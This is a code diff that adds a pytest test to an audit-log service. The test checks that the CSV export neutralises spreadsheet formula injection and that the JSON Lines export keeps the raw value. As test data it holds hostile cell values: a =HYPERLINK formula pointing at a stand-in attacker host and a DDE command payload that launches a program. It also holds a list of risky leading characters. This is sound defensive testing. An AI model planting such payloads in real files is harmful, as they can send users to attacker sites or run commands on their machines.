@@ -9,6 +9,7 @@ from __future__ import annotations
 import base64
 import csv
 import io
+import json
 from collections.abc import Iterator
 
 import pytest
@@ -17,7 +18,7 @@ from fastapi.responses import JSONResponse
 from fastapi.testclient import TestClient
 
 from hub.api.audit import router
-from hub.audit import merkle, notes
+from hub.audit import AuditEvent, append_event, merkle, notes
 from hub.audit.verify import verify_export
 from hub.errors import HubError
 from hub.services import Hub
@@ -146,3 +147,33 @@ def test_export_streams_jsonl_that_verifies_offline_and_csv(client: TestClient) 
     assert [int(r["index"]) for r in table] == list(range(len(table)))
     assert table[1]["epsilon"] == "0.1" and table[1]["action"] == "query.release"
     assert client.get("/v1/audit/export", params={"format": "xml"}).status_code == 422
+
+
+def test_csv_export_shows_caller_text_that_looks_like_a_formula_as_text(
+    client: TestClient, ledger: Hub
+) -> None:
+    # Text in an event can come from a caller (a request id, a denial's reason); IG leads
+    # open this export in a spreadsheet, which would run =HYPERLINK(...) as a formula.
+    hostile = '=HYPERLINK("http://evil.example/?x","Click")'
+    with ledger.engine.begin() as connection:
+        append_event(
+            connection,
+            AuditEvent(
+                action="budget.read",
+                decision="deny",
+                reason=hostile,
+                request_id="+cmd|' /C calc'!A0",
+                resource="-1+1",
+                actor="@SUM(A1)",
+            ),
+        )
+    table = list(csv.DictReader(io.StringIO(client.get("/v1/audit/export?format=csv").text)))
+    last = table[-1]
+    assert last["reason"] == "'" + hostile
+    assert last["request_id"] == "'+cmd|' /C calc'!A0"
+    assert last["resource"] == "'-1+1" and last["actor"] == "'@SUM(A1)"
+    risky = ("=", "+", "-", "@", "\t", "\r")
+    assert not any(cell.startswith(risky) for row in table for cell in row.values())
+    # the JSON Lines export keeps what was stored, which is what the ledger's hashes cover
+    exported = client.get("/v1/audit/export", params={"format": "jsonl"}).text.splitlines()
+    assert json.loads(exported[-1])["reason"] == hostile
